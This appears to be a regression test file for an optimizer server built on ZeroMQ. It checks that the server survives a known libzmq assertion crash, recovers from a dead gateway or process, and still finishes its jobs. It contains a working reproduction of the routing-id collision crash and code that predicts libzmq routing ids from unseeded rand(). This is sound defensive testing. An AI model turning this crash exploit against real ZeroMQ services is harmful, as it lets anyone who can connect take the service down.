"""Finding 1: any peer that could connect could abort the server through a libzmq assertion.

The upstream bug is reproduced on a bare pyzmq ROUTER; the server must outlive the same attack, a
dead gateway and a dead server process (supervised), and still finish its jobs exactly.
"""

from __future__ import annotations

import os
import re
import signal
import struct
import subprocess
import textwrap

import pytest
import zmq
from server_kit import PYTHON, RawPeer, disc_error, disc_job, spawn_server, spawn_worker, wait_until

from optimizer_server.cli_serve import READY_LINE
from optimizer_server.wire.client import OptimizerClient
from optimizer_server.wire.errors import ServerUnavailableError

UPSTREAM_REPRODUCTION = textwrap.dedent(
    """
    import struct, zmq
    ctx = zmq.Context()
    router = ctx.socket(zmq.ROUTER)
    address = "tcp://127.0.0.1:%d" % router.bind_to_random_port("tcp://127.0.0.1")
    first = ctx.socket(zmq.DEALER); first.connect(address); first.send(b"hello")
    identity, _ = router.recv_multipart()              # b"\\x00" + a 32-bit counter
    evil = ctx.socket(zmq.DEALER)                       # claims the id the ROUTER hands out next
    evil.setsockopt(zmq.ROUTING_ID, b"\\x00" + struct.pack(">I", struct.unpack(">I", identity[1:])[0] + 1))
    evil.connect(address); evil.send(b"x"); router.recv_multipart()
    victim = ctx.socket(zmq.DEALER); victim.connect(address); victim.send(b"hi")
    router.poll(2000); router.recv_multipart(zmq.NOBLOCK)
    print("survived")
    """
)


def test_upstream_libzmq_aborts_a_bare_router_on_a_routing_id_collision():
    """The bug itself (docs/security.md has the report): libzmq asserts and the process gets SIGABRT."""
    proc = subprocess.run([PYTHON, "-c", UPSTREAM_REPRODUCTION], capture_output=True, text=True, timeout=60)
    assert proc.returncode == -signal.SIGABRT, (proc.returncode, proc.stdout, proc.stderr)
    assert "Assertion failed" in proc.stderr and "survived" not in proc.stdout


PREDICT = textwrap.dedent(
    """
    import ctypes, ctypes.util
    libc = ctypes.CDLL(ctypes.util.find_library("c"))
    libc.srand(1)  # what an unseeded rand() starts from
    for _ in range(6):  # libzmq's generate_random() per ROUTER-like socket: rand() | rand() << 31
        low, high = libc.rand(), libc.rand()
        print((low | (high << 31)) & 0xFFFFFFFF)
    """
)


def predicted_routing_ids(per_socket: int = 8) -> list[bytes]:
    """The ids an unseeded process's first ROUTER-like sockets hand out (the ZAP handler's REP
    socket comes before the server's ROUTER, so several starts are claimed)."""
    out = subprocess.run([PYTHON, "-c", PREDICT], capture_output=True, text=True, check=True).stdout
    starts = [int(line) for line in out.split()]
    return [b"\x00" + struct.pack(">I", (start + k) & 0xFFFFFFFF) for start in starts for k in range(per_socket)]


def claim_upcoming_routing_ids(endpoint: str) -> list[RawPeer]:
    """The attack: take the ids a freshly started server's ROUTER will hand out next, then let
    ordinary peers connect. Each claimant sends one message so that libzmq attaches it."""
    claimants = []
    for routing_id in predicted_routing_ids():
        peer = RawPeer(endpoint, routing_id=routing_id)
        peer.send("status", {})
        claimants.append(peer)
    return claimants


def test_the_prediction_matches_an_unseeded_router_and_not_ours():
    """The attack's premise (libzmq's counter is predictable) and our seeding, in fresh processes."""
    probe = textwrap.dedent(
        """
        import sys, zmq
        from optimizer_server.server.gateway import randomise_routing_ids
        if sys.argv[1] == "seeded":
            randomise_routing_ids()
        ctx = zmq.Context(); router = ctx.socket(zmq.ROUTER)
        address = "tcp://127.0.0.1:%d" % router.bind_to_random_port("tcp://127.0.0.1")
        dealer = ctx.socket(zmq.DEALER); dealer.connect(address); dealer.send(b"x")
        print(router.recv_multipart()[0].hex())
        """
    )
    run = lambda mode: subprocess.run([PYTHON, "-c", probe, mode], capture_output=True, text=True, check=True)  # noqa: E731
    first = {mode: run(mode).stdout.strip() for mode in ("unseeded", "seeded")}
    predicted = {routing_id.hex() for routing_id in predicted_routing_ids()}
    assert first["unseeded"] in predicted and first["seeded"] not in predicted


@pytest.mark.slow
def test_a_peer_claiming_the_next_routing_ids_cannot_abort_the_server(tmp_path, spawn):
    server, endpoint = spawn_server(spawn, tmp_path / "jobs")
    claimants = claim_upcoming_routing_ids(endpoint)
    try:
        spawn_worker(spawn, endpoint, "--name", "w1")  # plain peers connecting after the claims
        spawn_worker(spawn, endpoint, "--name", "w2")
        with OptimizerClient(endpoint, timeout_s=30) as client:
            try:
                client.status()  # once this client is attached, an unprotected server has aborted
            except ServerUnavailableError:
                pass
            assert server.poll() is None, "the server process died:\n" + "".join(server.lines[-20:])
            result = client.submit(**disc_job(budget=30)).wait(timeout_s=90)
    finally:
        for peer in claimants:
            peer.close()
    assert server.poll() is None, "the server process died:\n" + "".join(server.lines[-20:])
    assert result["state"] == "finished" and disc_error(result["best"]) < 0.05


@pytest.mark.slow
def test_with_the_socket_in_process_the_seeded_counter_still_defeats_the_attack(tmp_path, spawn):
    """--socket-in-process (where ipc:// is missing): no gateway to fall back on, but the ids are no
    longer predictable, so the same claims miss."""
    server, endpoint = spawn_server(spawn, tmp_path / "jobs", "--socket-in-process")
    claimants = claim_upcoming_routing_ids(endpoint)
    try:
        spawn_worker(spawn, endpoint, "--name", "w1")
        with OptimizerClient(endpoint, timeout_s=30) as client:
            result = client.submit(**disc_job(budget=30)).wait(timeout_s=90)
    finally:
        for peer in claimants:
            peer.close()
    assert server.poll() is None and result["state"] == "finished"


@pytest.mark.slow
def test_when_the_gateway_dies_the_server_keeps_its_jobs_and_a_new_gateway_takes_over(tmp_path, start_server, spawn):
    """Whatever kills the process holding the public socket (an abort, a kill), jobs go on exactly."""
    reference_server = start_server(jobs_dir=str(tmp_path / "reference"))
    spawn_worker(spawn, reference_server.endpoint, "--name", "ref")
    with OptimizerClient(reference_server.endpoint) as client:
        reference = client.submit(**disc_job(method="prdpt", budget=60, options={"samples": 2})).wait(timeout_s=60)

    server = start_server(jobs_dir=str(tmp_path / "jobs"))
    first_gateway = server.server.gateway_pid
    for name in ("a", "b"):
        spawn_worker(spawn, server.endpoint, "--name", name, "--sleep-ms", "30")
    with OptimizerClient(server.endpoint, timeout_s=30) as client:
        job = client.submit(**disc_job(method="prdpt", budget=60, options={"samples": 2}))
        events = job.progress(timeout_s=90)
        for progress in events:
            if progress["iteration"] >= 3:
                break
        os.kill(first_gateway, signal.SIGABRT)  # what the libzmq assertion does to it
        for _ in events:
            pass
    assert server.server.gateway_pid != first_gateway and server.server.counters["peers_lost"] >= 1
    assert job.result["state"] == "finished"
    for key in ("best", "best_loss", "current", "evaluations"):
        assert job.result[key] == reference[key], key


@pytest.mark.slow
def test_a_supervised_server_that_is_killed_comes_back_with_every_job(tmp_path, spawn, start_server):
    reference_server = start_server(jobs_dir=str(tmp_path / "reference"))
    spawn_worker(spawn, reference_server.endpoint, "--name", "ref")
    job_options = disc_job(method="prdpt", budget=80, options={"samples": 2})
    with OptimizerClient(reference_server.endpoint) as client:
        reference = client.submit(**job_options, job_id="one").wait(timeout_s=60)

    supervisor, endpoint = spawn_server(spawn, tmp_path / "jobs", "--supervise")

    def server_pids():
        return [int(line.split()[1]) for line in supervisor.lines if line.startswith("ZEROGRADS_SERVER_PID")]

    wait_until(lambda: server_pids(), what="the supervisor to name its server")
    for name in ("a", "b"):
        spawn_worker(spawn, endpoint, "--name", name, "--sleep-ms", "30")
    with OptimizerClient(endpoint, timeout_s=60) as client:
        job = client.submit(**job_options, job_id="one")
        events = job.progress(timeout_s=120)
        for progress in events:
            if progress["iteration"] >= 4:
                break
        os.kill(server_pids()[-1], signal.SIGKILL)
        for _ in events:  # the client re-attaches to the restarted server on its own
            pass
    assert len(server_pids()) == 2 and supervisor.poll() is None
    assert sum(line.startswith(READY_LINE) for line in supervisor.lines) == 1  # printed once, same endpoint
    assert job.result["state"] == "finished"
    for key in ("best", "best_loss", "current", "evaluations"):
        assert job.result[key] == reference[key], key


def test_a_supervised_server_stops_cleanly_on_sigterm(tmp_path, spawn):
    supervisor, endpoint = spawn_server(spawn, tmp_path / "jobs", "--supervise")
    supervisor.send_signal(signal.SIGTERM)
    assert supervisor.wait(timeout=30) == 0
    ctx = zmq.Context.instance()
    probe = ctx.socket(zmq.DEALER)
    probe.linger = 0
    probe.connect(endpoint)
    assert not probe.poll(300)  # nobody answers: server and gateway are gone
    probe.close()


def test_the_gateway_exits_with_the_server(tmp_path, spawn):
    server, endpoint = spawn_server(spawn, tmp_path / "jobs")
    gateway_pid = next(int(m.group(1)) for line in server.lines if (m := re.search(r"gateway process (\d+)", line)))
    server.kill()
    server.wait()
    wait_until(lambda: not _alive(gateway_pid), timeout_s=10, what="the orphaned gateway to exit")


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    # a zombie (exited, not yet reaped by its parent) counts as gone
    with open(f"/proc/{pid}/stat") as f:
        return f.read().split()[2] != "Z"
